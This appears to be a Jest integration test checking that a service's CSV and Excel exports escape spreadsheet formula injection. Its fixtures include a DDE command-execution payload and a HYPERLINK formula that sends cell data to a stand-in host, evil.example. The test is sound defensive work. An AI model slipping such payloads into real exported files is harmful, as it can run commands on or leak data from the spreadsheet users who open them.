import { INestApplicationContext } from '@nestjs/common';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { startApp, TestApp } from '../support/app';
import { adminToken, createHostedService, createUser, post } from '../support/client';
import { readPart, readWorkbook } from '../support/openpyxl';
import { waitFor } from '../support/wait-for';
import { startWorker } from '../support/worker';

/**
 * Formula injection: text a spreadsheet would run as a formula (OWASP: a cell starting with =, +, -, @, tab or
 * carriage return) is exported as text. CSV quotes it with a single quote in front unless the request turns that
 * off; numbers stay numbers. An Excel cell holds such text as a string, which Excel shows and never runs.
 */
const HOSTILE = [
  `=cmd|' /C calc'!A0`,
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"open")',
  'plain',
  'a=b, -c',
  null,
];

describe('exports: formula injection', () => {
  let t: TestApp;
  let worker: INestApplicationContext;
  let owner: { username: string; token: string };
  let itemId: string;
  let dir: string;

  beforeAll(async () => {
    t = await startApp();
    worker = await startWorker(t.config);
    dir = mkdtempSync(path.join(tmpdir(), 'csv-injection-'));
    owner = await createUser(t.base, await adminToken(t.base), 'org_publisher');
    const fields = [
      { name: 'Name', type: 'esriFieldTypeString', length: 80 },
      // An alias and coded values' descriptions are text in a CSV too, when the export asks for them.
      {
        name: 'N',
        type: 'esriFieldTypeInteger',
        alias: '=HYPERLINK("http://evil.example")',
        domain: { type: 'codedValue', name: 'Hostile', codedValues: HOSTILE.slice(0, 4).map((v, i) => ({ name: v, code: -i })) },
      },
      { name: 'D', type: 'esriFieldTypeDouble' },
    ];
    const created = await createHostedService(t.base, owner, [{ id: 0, name: 'Pts', geometryType: 'esriGeometryPoint', fields }]);
    itemId = created.itemId;
    const features = HOSTILE.map((Name, i) => ({ attributes: { Name, N: -i, D: -i - 0.5 }, geometry: { x: -9.5, y: 40 + i } }));
    const added = await post(`${created.serviceurl}/0`, 'addFeatures', { features: JSON.stringify(features) }, owner.token);
    expect(added.body.addResults.every((r: { success: boolean }) => r.success)).toBe(true);
  }, 60_000);

  afterAll(async () => {
    await worker?.close();
    await t?.close();
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  /** Exports the service and returns the file's bytes. */
  const exported = async (exportFormat: string, exportParameters: object = {}): Promise<Buffer> => {
    const r = await post(
      t.base,
      `content/users/${owner.username}/export`,
      { itemId, exportFormat, exportParameters: JSON.stringify(exportParameters) },
      owner.token,
    );
    expect(r.body.jobId).toBeTruthy();
    const status = async () => (await t.db.query(`SELECT status, status_message FROM jobs WHERE id = $1`, [r.body.jobId]))[0];
    await waitFor('the export', async () => ['completed', 'failed'].includes((await status()).status), 60_000);
    expect(await status()).toMatchObject({ status: 'completed' });
    const data = await fetch(`${t.base}/content/items/${r.body.exportItemId}/data?token=${owner.token}`);
    return Buffer.from(await data.arrayBuffer());
  };

  it('CSV: text starting with = + - @ tab or CR is quoted with a single quote in front; numbers stay numbers', async () => {
    const csv = (await exported('CSV')).toString('utf8');
    expect(csv.split('\n')).toEqual([
      'OBJECTID,Name,N,D,x,y',
      `1,"'=cmd|' /C calc'!A0",0,-0.5,-9.5,40`,
      `2,"'+1+1",-1,-1.5,-9.5,41`,
      `3,"'-1+1",-2,-2.5,-9.5,42`,
      `4,"'@SUM(A1)",-3,-3.5,-9.5,43`,
      `5,"'\t=1+1",-4,-4.5,-9.5,44`,
      `6,"'\r=1+1",-5,-5.5,-9.5,45`,
      `7,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",-6,-6.5,-9.5,46`,
      `8,plain,-7,-7.5,-9.5,47`,
      `9,"a=b, -c",-8,-8.5,-9.5,48`,
      `10,,-9,-9.5,-9.5,49`,
      '',
    ]);
  }, 60_000);

  it('CSV: exportParameters.escapeFormulas false writes the text as it is, as GDAL did', async () => {
    const lines = (await exported('CSV', { escapeFormulas: false })).toString('utf8').split('\n');
    expect(lines.slice(1, 5)).toEqual([
      `1,=cmd|' /C calc'!A0,0,-0.5,-9.5,40`,
      `2,+1+1,-1,-1.5,-9.5,41`,
      `3,-1+1,-2,-2.5,-9.5,42`,
      `4,@SUM(A1),-3,-3.5,-9.5,43`,
    ]);
  }, 60_000);

  it('CSV: aliases as headers and descriptions of codes are escaped as any text', async () => {
    const lines = (await exported('CSV', { useFieldAliases: true, useDomainDescriptions: 'both' })).toString('utf8').split('\n');
    expect(lines.slice(0, 6)).toEqual([
      `OBJECTID,Name,"'=HYPERLINK(""http://evil.example"")","'=HYPERLINK(""http://evil.example"")_desc",D,x,y`,
      `1,"'=cmd|' /C calc'!A0",0,"'=cmd|' /C calc'!A0",-0.5,-9.5,40`,
      `2,"'+1+1",-1,"'+1+1",-1.5,-9.5,41`,
      `3,"'-1+1",-2,"'-1+1",-2.5,-9.5,42`,
      `4,"'@SUM(A1)",-3,"'@SUM(A1)",-3.5,-9.5,43`,
      `5,"'\t=1+1",-4,,-4.5,-9.5,44`,
    ]);
  }, 60_000);

  it('the flag is CSV only, and true or false', async () => {
    const ask = (exportFormat: string, escapeFormulas: unknown) =>
      post(
        t.base,
        `content/users/${owner.username}/export`,
        { itemId, exportFormat, exportParameters: JSON.stringify({ escapeFormulas }) },
        owner.token,
      );
    expect((await ask('Excel', false)).body.error.details).toEqual(["'escapeFormulas' applies only to CSV exports."]);
    expect((await ask('CSV', 'no')).body.error.details).toEqual(["'escapeFormulas' must be true or false."]);
  });

  it('Excel: the same text is a string cell, never a formula, and reads back unchanged', async () => {
    const file = path.join(dir, 'hostile.xlsx');
    writeFileSync(file, await exported('Excel'));
    const sheet = readPart(file, 'xl/worksheets/sheet1.xml');
    // A formula is an <f> element; text is an inline string, whatever it starts with.
    expect(sheet).not.toContain('<f');
    expect(sheet).toContain(`<c r="B2" t="inlineStr"><is><t xml:space="preserve">=cmd|' /C calc'!A0</t></is></c>`);
    const rows = Object.values(readWorkbook(file))[0];
    expect(rows.slice(1).map((r) => r[1])).toEqual(HOSTILE.map((v) => (v === null ? null : v)));
    // Numbers are numbers.
    expect(rows[2].slice(2)).toEqual([-1, -1.5, -9.5, 41]);
  }, 60_000);
});
